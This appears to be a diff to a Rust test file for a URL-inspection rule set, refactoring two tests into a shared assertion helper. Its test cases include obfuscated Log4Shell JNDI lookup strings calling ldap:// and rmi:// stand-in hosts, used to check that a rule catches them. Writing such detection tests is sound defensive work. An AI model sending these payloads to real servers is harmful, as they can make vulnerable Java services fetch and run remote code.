@@ -465,14 +465,26 @@ fn each_family_catches_its_edge_cases() {
         ("/?x=${${lower:j}${lower:n}di:ldap://e/a}", "93150"),
         ("/?x=${${::-j}ndi:rmi://e/a}", "93150"),
     ];
-    let mut missed = Vec::new();
-    for (url, expected) in cases {
-        let found = url_ids(&rules, url);
-        if !found.contains(&expected.to_owned()) {
-            missed.push(format!("{url} (want {expected}): {found:?}"));
-        }
-    }
-    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+    assert_each_url(&rules, &cases, |found, expected| {
+        found.iter().any(|id| id == expected)
+    });
+}
+
+/// Every `(url, expected)` for which `holds(ids raised, expected)` fails,
+/// listed in one assertion.
+fn assert_each_url(
+    rules: &RuleSet,
+    cases: &[(&str, &str)],
+    holds: impl Fn(&[String], &str) -> bool,
+) {
+    let failed: Vec<String> = cases
+        .iter()
+        .filter_map(|(url, expected)| {
+            let found = url_ids(rules, url);
+            (!holds(&found, expected)).then(|| format!("{url} (want {expected:?}): {found:?}"))
+        })
+        .collect();
+    assert!(failed.is_empty(), "failed:\n{}", failed.join("\n"));
 }
 
 #[test]
@@ -512,14 +524,8 @@ fn the_false_positives_seen_on_real_traffic_stay_quiet() {
         "/feed?format=json&callback=cb",
         "/img/logo.png?v=3",
     ];
-    let mut raised = Vec::new();
-    for url in benign {
-        let found = url_ids(&rules, url);
-        if !found.is_empty() {
-            raised.push(format!("{url}: {found:?}"));
-        }
-    }
-    assert!(raised.is_empty(), "raised:\n{}", raised.join("\n"));
+    let cases: Vec<(&str, &str)> = benign.iter().map(|url| (*url, "")).collect();
+    assert_each_url(&rules, &cases, |found, _| found.is_empty());
 }
 
 #[test]
